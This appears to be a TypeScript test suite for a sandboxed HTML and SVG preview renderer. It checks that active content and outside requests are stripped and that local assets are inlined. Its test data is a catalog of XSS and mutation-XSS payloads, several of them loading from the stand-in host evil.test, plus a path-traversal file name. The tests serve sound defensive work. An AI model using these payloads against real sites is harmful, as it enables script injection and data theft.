import assert from 'node:assert/strict';
import { parse } from 'parse5';
import type { RenderRequest } from '../../../src/app/preview/previewPorts.ts';
import { attribute, elementsOf, nameOf } from '../../../src/preview/nodes.ts';
import { renderHtml } from '../../../src/preview/renderHtml.ts';
import { renderSvg } from '../../../src/preview/renderSvg.ts';

const workspace: Readonly<Record<string, string>> = {
  'site/style.css': '@import "theme.css";\nbody { background: url(dot.png) }',
  'site/theme.css': '@media (prefers-color-scheme: dark) { body { color: white } }',
  'site/dot.png': 'dot',
  'site/app.js': 'document.title = "</script>"',
  'site/loop.css': '@import "loop.css"; i { color: red }',
};

function request(text: string, changes: Partial<RenderRequest> = {}): RenderRequest {
  return {
    path: 'site/index.html',
    text,
    look: { scheme: 'system', rightToLeft: false, reducedMotion: false, dataSet: 'typical' },
    runScripts: false,
    ownProps: null,
    tailwind: false,
    underWay: false,
    nonce: 'NONCE',
    frameScript: 'ours()',
    read: async (path) => (path in workspace ? new TextEncoder().encode(workspace[path]) : null),
    ...changes,
  };
}

/** Everything in a document that would act, or reach beyond it, as a browser reads the text. */
function activeParts(document: string): readonly string[] {
  return elementsOf(parse(document)).flatMap((element) => {
    const name = element.tagName;
    if (name === 'script') return attribute(element, 'nonce') === 'NONCE' ? [] : ['script'];
    if (['iframe', 'object', 'embed', 'base', 'link', 'frame', 'template', 'noscript'].includes(name)) return [name];
    if (name === 'meta' && attribute(element, 'http-equiv') === 'refresh') return ['refresh'];
    return element.attrs.flatMap(({ value, ...each }) => {
      const attributeName = nameOf(each);
      const isAddress = ['href', 'xlink:href', 'src', 'poster', 'background', 'action', 'srcset'].includes(
        attributeName,
      );
      const leaves = isAddress && !/^(?:data:|#)/.test(value);
      const runs = attributeName.startsWith('on') || /^\s*javascript:/i.test(value);
      return leaves || runs ? [`${name} ${attributeName}=${value}`] : [];
    });
  });
}

describe('rendering a page of HTML', () => {
  const hostile: Readonly<Record<string, string>> = {
    script: '<p>x<script>steal()</script>',
    handler: '<img src=x onerror=steal()><svg onload=steal()><body onload=steal()>',
    'script in SVG': '<svg><script>steal()</script><script href="http://evil.test/x.js"/></svg>',
    'javascript address':
      '<a href="java\nscript:steal()">a</a><form action="javascript:steal()"><button formaction="javascript:x">',
    'address in SVG':
      '<svg><a xlink:href=" javascript:steal()"><text>a</text></a><use href="http://evil.test/#x"/></svg>',
    'animated address':
      '<svg><a><animate attributeName="xlink:href" to="javascript:steal()"/><set attributeName=href to="javascript:x"/></a></svg>',
    refresh: '<meta http-equiv=refresh content="0;url=http://evil.test">',
    base: '<base href="http://evil.test/">',
    hints:
      '<link rel=dns-prefetch href=//evil.test><link rel=preconnect href=//evil.test><link rel=prefetch href=http://evil.test/x>',
    frames:
      '<iframe src=http://evil.test></iframe><iframe srcdoc="<script>steal()</script>"></iframe><object data=x></object><embed src=x>',
    'noscript that ends': '<noscript><p title="</noscript><img src=http://evil.test/x onerror=steal()>"></noscript>',
    'mathml and style':
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;">',
    'nested forms': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>',
    'template with a shadow': '<div><template shadowrootmode=open><script>steal()</script></template></div>',
    'title in svg': '<svg></p><title><template><style></title><img src=x onerror=steal()>',
    comment: '<!--><img src=x onerror=steal()>-->',
    'textarea in svg': '<svg><textarea><img src="</textarea><img src=x onerror=steal()>">',
    xmp: '<xmp><p title="</xmp><img src=x onerror=steal()>"></xmp>',
    pictures:
      '<img src=http://evil.test/a.png srcset="http://evil.test/b.png 2x"><video poster=http://evil.test/c src=http://evil.test/d></video><table background=http://evil.test/e>',
    'speculation rules': '<script type="speculationrules">{"prefetch":[{"urls":["http://evil.test"]}]}</script>',
    'our own nonce': '<script nonce="">steal()</script>',
  };
  for (const [name, text] of Object.entries(hostile)) {
    it(`leaves nothing that acts: ${name}`, async () => {
      const page = await renderHtml(request(`<!doctype html><h1>Page</h1>${text}`));
      assert.deepEqual(activeParts(page.document), []);
      assert.ok(
        !page.document.includes('evil.test/') || /url\(|%2F|evil\.test\/<\/text/.test(page.document),
        page.document,
      );
    });
  }

  it('puts our policy and script before everything else', async () => {
    const { document } = await renderHtml(request('<!doctype html><head><script>x()</script><title>T</title>'));
    const names = elementsOf(parse(document)).map(({ tagName }) => tagName);
    assert.deepEqual(names, ['html', 'head', 'meta', 'meta', 'meta', 'script', 'title', 'body']);
    assert.match(document, /script-src 'nonce-NONCE';.*connect-src 'none'; frame-src 'none'/);
    assert.match(document, /<script nonce="NONCE">ours\(\)<\/script>/);
  });

  it('keeps a page’s scripts when they may run, under a policy without our nonce', async () => {
    const text =
      '<h1>x</h1><script>go()</script><script src="app.js"></script><script src="https://cdn.test/a.js"></script>';
    const { document, leftOut, hasScripts } = await renderHtml(request(text, { runScripts: true }));
    assert.equal(hasScripts, true);
    assert.deepEqual(leftOut, ['https://cdn.test/a.js']);
    assert.match(document, /<script>go\(\)<\/script><script>document\.title = "<\\\/script>"<\/script><\/body>/);
    assert.match(document, /script-src 'unsafe-inline'; style-src/);
  });

  it('strips even from a page with scripts what has browsers look up names', async () => {
    const text =
      '<link rel=dns-prefetch href=//a.test><base href=//a.test><meta http-equiv=refresh content="0"><a href="//a.test">a</a><p>';
    const { document } = await renderHtml(request(text, { runScripts: true }));
    assert.ok(!document.includes('a.test'), document);
  });

  it('puts style sheets, what they import, and pictures into the document', async () => {
    const text =
      '<link rel=stylesheet href="style.css" media="screen"><img src="./dot.png" alt="Dot"><p style="background:url(dot.png)">';
    const { document, leftOut } = await renderHtml(request(text));
    assert.deepEqual(leftOut, []);
    assert.match(
      document,
      /<style media="screen">@media \(prefers-color-scheme: dark\) \{ body \{ color: white \} \}\nbody \{ background: url\("data:image\/png;base64,ZG90"\) \}<\/style>/,
    );
    assert.match(document, /<img alt="Dot" src="data:image\/png;base64,ZG90">/);
    assert.match(document, /style="background:url\(&quot;data:image\/png;base64,ZG90&quot;\)"/);
  });

  it('shows nothing of a tag or sign that has only begun', async () => {
    for (const half of ['<', '</', '<!', '<!-', '<di', '&', '&nbs', '&#82']) {
      const { document, hasContent } = await renderHtml(request(`<!doctype html><html>${half}`));
      assert.deepEqual([/<body>(.*)<\/body>/s.exec(document)?.[1], hasContent], ['', false], half);
    }
  });

  it('marks every picture and frame that is not there, and takes pictures from where browsers or scripts would', async () => {
    const text =
      '<img srcset="dot.png 1x, dot@2x.png 2x" alt="a"><img data-src="later.jpg" alt="b"><img alt="c">' +
      '<video poster="still.jpg"></video><input type="image" src="go.png" alt="Go">' +
      '<iframe class="map" src="https://maps.example/embed?x" width="300" height="150" title="Map"></iframe>';
    const { document, leftOut } = await renderHtml(request(text));
    const [first, second, third, frame] = elementsOf(parse(document)).filter(({ tagName }) => tagName === 'img');
    const source = (element: typeof first) => (element === undefined ? null : attribute(element, 'src'));
    assert.match(source(first) ?? '', /^data:image\/png;base64,/);
    assert.match(source(second) ?? '', /later\.jpg/);
    assert.equal(source(third), null);
    assert.match(document, /<video poster="data:image\/svg\+xml,[^"]*still\.jpg/);
    assert.match(document, /<input type="image" alt="Go" src="data:image\/svg\+xml,[^"]*go\.png/);
    assert.match(source(frame) ?? '', /maps\.example/);
    const named = ['class', 'width', 'height', 'alt'].map((name) => frame && attribute(frame, name));
    assert.deepEqual(named, ['map', '300', '150', 'Map']);
    assert.deepEqual(leftOut, ['later.jpg', 'still.jpg', 'go.png', 'https://maps.example/embed?x']);
  });

  it('comes to an end with style sheets that import themselves', async () => {
    const { document } = await renderHtml(request('<link rel=stylesheet href="loop.css"><p>x'));
    assert.match(document, /i \{ color: red \}/);
    assert.ok(!document.includes('@import'));
  });

  it('marks pictures that are elsewhere or not there, and names them', async () => {
    const { document, leftOut } = await renderHtml(
      request('<img src="https://pictures.test/cat.png"><img src="missing.png"><img src="../../../etc/passwd.png">'),
    );
    assert.deepEqual(leftOut, ['https://pictures.test/cat.png', 'missing.png', '../../../etc/passwd.png']);
    assert.equal(document.split('src="data:image/svg+xml,').length, 4);
  });

  it('shows a page for the scheme, motion and direction that were chosen', async () => {
    const text =
      '<html><meta name=color-scheme content="light dark"><style>:root{color-scheme:light dark}@media (prefers-color-scheme:dark){a{}}@media (prefers-color-scheme: light){b{}}@media (prefers-reduced-motion: reduce){c{}}@media (prefers-reduced-motion: no-preference){d{}}</style><p>x';
    const { document } = await renderHtml(
      request(text, { look: { scheme: 'dark', rightToLeft: true, reducedMotion: true, dataSet: 'typical' } }),
    );
    assert.match(document, /<html dir="rtl">/);
    assert.match(document, /content="dark"/);
    assert.match(
      document,
      /:root\{color-scheme:dark\}@media \(min-width: 0px\)\{a\{\}\}@media \(max-width: -1px\)\{b\{\}\}@media \(min-width: 0px\)\{c\{\}\}@media \(max-width: -1px\)\{d\{\}\}/,
    );
  });

  it('knows whether anything is to be seen yet', async () => {
    const half = ['<!doctype html><html><head><title>Shop</title><style>body { col', '<body><main><div id=root></div>'];
    for (const text of half) assert.equal((await renderHtml(request(text))).hasContent, false, text);
    for (const text of ['<p>a', '<img>', '<svg>', '<button>']) {
      assert.equal((await renderHtml(request(text))).hasContent, true, text);
    }
  });

  it('renders every beginning of a page without a fault', async () => {
    const whole = `<!doctype html><html lang="en"><head><style>b{}</style></head><body>${Object.values(hostile).join('')}</body></html>`;
    for (let length = 0; length < whole.length; length += 7) {
      const { document } = await renderHtml(request(whole.slice(0, length)));
      assert.deepEqual(activeParts(document), []);
    }
  });
});

describe('rendering a picture', () => {
  it('puts it on a page of its own, without its prologue and scripts', async () => {
    const text =
      '<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "x" "y">\n<svg xmlns="http://www.w3.org/2000/svg" onload="x()"><script>x()</script><circle r="1"/></svg>';
    const { document, hasContent } = await renderSvg(request(text, { path: 'a.svg' }));
    assert.equal(hasContent, true);
    assert.match(
      document,
      /<body><svg xmlns="http:\/\/www\.w3\.org\/2000\/svg"><circle r="1"><\/circle><\/svg><\/body>/,
    );
  });
});
